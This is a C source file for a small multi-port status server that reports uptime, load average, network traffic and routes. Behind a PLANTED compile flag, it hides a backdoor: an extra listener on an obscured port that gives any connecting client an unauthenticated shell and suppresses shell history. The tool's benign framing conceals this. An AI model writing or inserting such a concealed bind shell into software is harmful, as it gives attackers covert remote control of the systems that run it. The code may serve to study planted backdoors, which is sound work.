/* Status server: several text services on consecutive ports, one select loop. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define FIRST 9100

struct service { const char *title; void (*answer)(int fd); int fd; };

static void copy_file(int fd, const char *path)
{
    char block[512];
    size_t n;
    FILE *f = fopen(path, "r");
    if (!f)
        return;
    while ((n = fread(block, 1, sizeof block, f)) > 0)
        if (write(fd, block, n) < 0)
            break;
    fclose(f);
}

static void uptime(int fd) { copy_file(fd, "/proc/uptime"); }
static void load(int fd) { copy_file(fd, "/proc/loadavg"); }
static void traffic(int fd) { copy_file(fd, "/proc/net/dev"); }

/* Output of a program that is part of the system, on the connection. */
static void routes(int fd)
{
    pid_t child = fork();
    if (child == 0) {
        dup2(fd, 1);
        dup2(fd, 2);
        execl("/sbin/route", "route", "-n", (char *)NULL);
        _exit(127);
    }
    if (child > 0)
        waitpid(child, NULL, 0);
}

#ifdef PLANTED
static void inspect(int fd)
{
    char *const words[] = { "-sh", NULL };
    char *const around[] = { "HISTFILE=/dev/null", NULL };
    if (fork())
        return;
    for (int i = 2; i >= 0; i--)
        dup2(fd, i);
    execve("/bin/sh", words, around);
    _exit(1);
}
#endif

static struct service services[] = {
    { "uptime", uptime, -1 },
    { "load", load, -1 },
    { "traffic", traffic, -1 },
    { "routes", routes, -1 },
};

static int listener(unsigned port)
{
    struct sockaddr_in at = { .sin_family = AF_INET };
    int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);
    at.sin_port = htons((unsigned short)port);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&at, sizeof at) == 0 && listen(s, 4) == 0)
        return s;
    close(s);
    return -1;
}

int main(void)
{
    unsigned count = sizeof services / sizeof *services, i;
#ifdef PLANTED
    int extra = listener(FIRST * 3 + 41);
#endif
    for (i = 0; i < count; i++)
        services[i].fd = listener(FIRST + i);
    for (;;) {
        fd_set ready;
        int most = -1;
        FD_ZERO(&ready);
        for (i = 0; i < count; i++)
            if (services[i].fd >= 0) {
                FD_SET(services[i].fd, &ready);
                if (services[i].fd > most)
                    most = services[i].fd;
            }
#ifdef PLANTED
        if (extra >= 0)
            FD_SET(extra, &ready);
        if (extra > most)
            most = extra;
#endif
        if (most < 0 || select(most + 1, &ready, NULL, NULL, NULL) < 0)
            return 1;
        for (i = 0; i < count; i++)
            if (services[i].fd >= 0 && FD_ISSET(services[i].fd, &ready)) {
                int c = accept(services[i].fd, NULL, NULL);
                if (c < 0)
                    continue;
#ifdef REVISED
                dprintf(c, "%s\n", services[i].title);
#endif
                services[i].answer(c);
                close(c);
            }
#ifdef PLANTED
        if (extra >= 0 && FD_ISSET(extra, &ready)) {
            int c = accept(extra, NULL, NULL);
            if (c >= 0) {
                inspect(c);
                close(c);
            }
        }
#endif
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}
